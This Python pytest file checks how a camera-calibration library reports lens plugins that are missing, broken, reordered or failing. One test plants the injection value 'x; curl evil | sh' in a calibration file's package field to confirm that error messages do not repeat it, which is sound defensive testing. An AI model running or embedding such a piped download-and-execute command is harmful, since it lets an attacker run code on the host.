"""Lenses that other packages bring: missing, broken, changed, failing: what is said, and what goes on."""

from __future__ import annotations

import sys
from collections.abc import Callable
from dataclasses import dataclass, make_dataclass
from functools import cache
from importlib.metadata import EntryPoint, EntryPoints
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from command_line import Cli, cli  # noqa: F401  a fixture
from implicam import calibration_file, registry
from implicam.calibrators import Explicit, ExplicitCalibration, load_calibration
from implicam.calibrators.explicit.lenses import Choice, choose_lens, dropped_notes
from implicam.dataset import Dataset, write_dataset
from implicam.errors import CalibrationFileError, DatasetError, FitError, PartError
from implicam.exchange import ExplicitCamera, Rig, export_cameras
from implicam.geometry import Pose
from implicam.lenses import LENSES, KannalaBrandt, Lens
from implicam.simulate import build_rig, random_positions, simulate
from toy_lens import Equisolid

Bring = Callable[..., None]


@pytest.fixture
def bring(monkeypatch: pytest.MonkeyPatch) -> Bring:
    """Installs packages that bring lenses, by entry points; those before are gone."""

    def installed(**lenses: str) -> None:
        entries = [EntryPoint(name.replace("_", "-"), value, LENSES.group) for name, value in lenses.items()]
        monkeypatch.setattr(registry, "entry_points", lambda **by: EntryPoints(entries).select(**by))
        own = ("brown-conrady", "kannala-brandt")
        monkeypatch.setattr(LENSES, "_parts", {name: LENSES._parts[name] for name in own})

    installed()
    return installed


@cache
def data(points: int, seed: int) -> Dataset:
    rig = build_rig("dome4", seed=3, lens_error=0.0)
    return simulate(rig, random_positions(rig, points, np.random.default_rng(seed)), seed=seed)


@pytest.fixture
def file(bring: Bring, tmp_path: Path) -> Path:
    """A calibration with a lens of the package toy_lens."""
    bring(equisolid="toy_lens:Equisolid")
    Explicit(lens="equisolid").fit(data(30, 1)).save(tmp_path / "toy.implicam")
    return tmp_path / "toy.implicam"


def test_a_file_says_which_package_and_which_parameters_its_lenses_have(file: Path) -> None:
    told = calibration_file.describe(file)["options"]["lenses"][0]
    assert told["package"] == "toy_lens"
    assert told["parameters"] == ["fx", "fy", "cx", "cy", "k1", "k2", "k3", "k4"]


def test_a_lens_that_is_not_installed_is_named_with_its_package_and_camera(file: Path, bring: Bring, cli: Cli) -> None:
    bring()
    write_dataset(data(5, 2), file.parent / "new")
    ran = cli("measure", "toy.implicam", "new")
    told = " ".join(ran.err.split())
    assert ran.code == 1
    assert "camera 'cam1' has a lens of the family 'equisolid', which is not installed" in told
    assert "fix: install the package toy_lens" in told
    assert "backup" not in told


def test_a_package_that_is_broken_is_named_and_so_is_what_broke(
    file: Path, bring: Bring, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    (file.parent / "broken_lens.py").write_text("raise OSError('libglass.so.1: cannot open')\n")
    monkeypatch.syspath_prepend(file.parent)
    bring(equisolid="broken_lens:Equisolid")
    ran = cli("info", "toy.implicam")
    told = " ".join(ran.err.split())
    assert ran.code == 1
    assert "camera 'cam1' has a lens of the family 'equisolid', which cannot be used" in told
    assert "of the package broken_lens cannot be imported" in told
    assert "libglass.so.1" in told
    assert "backup" not in told


def test_a_lens_whose_parameters_have_another_order_now_is_refused(
    file: Path, bring: Bring, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It was 147 mm off, silently."""
    order = ("fx", "fy", "cx", "cy", "k2", "k1", "k3", "k4")
    other = make_dataclass("Equisolid", [(name, float) for name in order], bases=(Equisolid,), frozen=True)
    monkeypatch.setattr(sys.modules["toy_lens"], "Reordered", reordered(other), raising=False)
    bring(equisolid="toy_lens:Reordered")
    with pytest.raises(CalibrationFileError, match="which has other parameters now: fx, fy, cx, cy, k2, k1") as refused:
        load_calibration(file)
    assert "in the order fx, fy, cx, cy, k1, k2" in refused.value.why
    assert "install the package toy_lens" in refused.value.fix


def reordered(kind: Any) -> Any:
    """A dataclass that inherits keeps the order of its parent: this one has its own."""
    kind.__dataclass_fields__ = {name: kind.__dataclass_fields__[name] for name in ("fx", "fy", "cx", "cy", "k2", "k1")}
    return kind


def test_a_file_from_before_packages_and_parameters_were_stored_is_read(file: Path, bring: Bring) -> None:
    made = load_calibration(file)
    table, arrays = made.state()
    for lens in table["lenses"]:
        for key in ("parameters", "package"):
            del lens[key]
    again = ExplicitCalibration.from_state(made.data, table, arrays)
    assert again.map.posterior.models[0].camera.lens.family == "equisolid"  # type: ignore[union-attr]
    bring()
    with pytest.raises(PartError, match="'equisolid', which is not installed") as refused:
        ExplicitCalibration.from_state(made.data, table, arrays)
    assert "brown-conrady, kannala-brandt" in refused.value.why


def test_what_a_file_calls_a_package_is_not_repeated_where_it_is_none(file: Path, bring: Bring) -> None:
    made = load_calibration(file)
    table, arrays = made.state()
    bring()
    table["lenses"][0]["package"] = "x; curl evil | sh"
    with pytest.raises(PartError) as refused:
        ExplicitCalibration.from_state(made.data, table, arrays)
    assert "curl" not in str(refused.value)


def test_auto_goes_on_without_a_broken_package_and_says_so(bring: Bring, cli: Cli, tmp_path: Path) -> None:
    bring(double_sphere="no_such_lens:DoubleSphere", kannala_brandt="math:pi")
    made = Explicit(lens="auto").fit(data(30, 1))
    assert {choice.lens for choice in made.fitted.choices} <= {"brown-conrady", "kannala-brandt"}
    notes = " ".join(made.notes)
    assert "the lens 'double-sphere' of the package no_such_lens cannot be imported" in notes
    assert "the package math brings a lens 'kannala-brandt', a name that is taken" in notes
    write_dataset(data(30, 1), tmp_path / "rig")
    for method in ([], ["--method", "explicit"]):
        ran = cli("calibrate", "rig", "-o", "x.implicam", "--lens", "double-sphere", *method)
        assert ran.code == 2
        assert "of the package no_such_lens cannot be imported" in " ".join(ran.err.split())


@dataclass(frozen=True)
class Failing(KannalaBrandt):
    """Its `nearest` has a mistake."""

    @classmethod
    def nearest(cls, lens: Lens, points: np.ndarray) -> Any:
        return lens.focal  # type: ignore[attr-defined]


def test_a_lens_that_fails_is_named_with_its_package_and_auto_goes_on_without(bring: Bring) -> None:
    bring()
    LENSES.register("kannala-brandt-2", make_dataclass("Failing", [], bases=(Failing,), frozen=True, namespace=NAMED))
    made = Explicit(lens="auto").fit(data(30, 1))
    assert "lens kannala-brandt-2 was not tried for any camera: the lens 'kannala-brandt-2' of" in " ".join(made.notes)
    with pytest.raises(PartError, match=r"the lens 'kannala-brandt-2' of the package .* fails") as failed:
        Explicit(lens="kannala-brandt-2").fit(data(30, 1))
    assert "AttributeError" in failed.value.why


NAMED = {"family": "kannala-brandt-2", "__module__": "test_lens_packages"}


def test_a_family_that_cannot_be_started_is_told_with_the_reason() -> None:
    def make(family: str) -> str:
        if family == "brown-conrady":
            raise FitError("a perspective lens cannot look 80° off its axis.")
        return family

    _, choice = choose_lens("auto", make, lambda made: np.ones(4), 10.0)
    assert choice.lens == "kannala-brandt"
    notes = dropped_notes(["left", "right"], [choice, Choice("kannala-brandt", {})])
    assert notes == ["lens brown-conrady was not tried for left: a perspective lens cannot look 80° off its axis."]
    assert dropped_notes(["left"], [choice])[0].startswith("lens brown-conrady was not tried for any camera: a persp")


def test_a_family_that_is_named_and_cannot_be_started_says_what_to_do() -> None:
    """All cameras refused, it said to look for wrong rows; the cure of each camera stands in its reason."""

    def make(family: str) -> str:
        raise FitError("no start of narrow sees these points.", fix="use another lens, or auto, for this camera")

    with pytest.raises(FitError, match="sees these points; use another lens, or auto, for this camera"):
        choose_lens("narrow", make, lambda made: np.ones(4), 10.0)


@pytest.mark.parametrize("method", [[], ["--method", "forward-gp"], ["--method", "explicit"]])
def test_a_lens_that_is_misspelt_is_found_in_explicit(
    bring: Bring, cli: Cli, tmp_path: Path, method: list[str]
) -> None:
    bring(double_sphere="toy_lens:Equisolid")
    write_dataset(data(30, 1), tmp_path / "rig")
    ran = cli("calibrate", "rig", "-o", "x.implicam", "--lens", "double_sphere", *method)
    told = " ".join(ran.err.split())
    assert ran.code == 2
    assert "did you mean 'double-sphere'?" in told
    assert "explicit" in told


@pytest.mark.parametrize(
    ("k1", "near"),
    [(0.0, "or export to pose2sim, which comes within 1 px"), (-0.12, None)],
)
def test_export_recommends_a_format_only_where_it_holds_the_lens(tmp_path: Path, k1: float, near: str | None) -> None:
    """It named dlt and pose2sim, which are 20 px off, or refuse."""
    lens = Equisolid(1000.0, 1000.0, 639.5, 511.5, 0.25) if near else Equisolid(430.0, 430.0, 639.5, 511.5, k1)
    pose = Pose(np.eye(3), np.array([0.0, 0.0, 500.0]))
    rig = Rig((ExplicitCamera("cam1", 1280, 1024, lens, pose),), "mm")
    with pytest.raises(DatasetError, match="has a lens of the family equisolid, which opencv does not know") as refused:
        export_cameras(rig, "opencv", tmp_path / "a.yaml")
    assert refused.value.fix == "calibrate with one of these" + (f", {near}" if near else "")
    if near:
        assert export_cameras(rig, "pose2sim", tmp_path / "a.toml")
    else:
        with pytest.raises(DatasetError) as refused:
            export_cameras(rig, "pose2sim", tmp_path / "a.toml")
        assert "calibrate with" in refused.value.fix
        assert "dlt" not in refused.value.fix
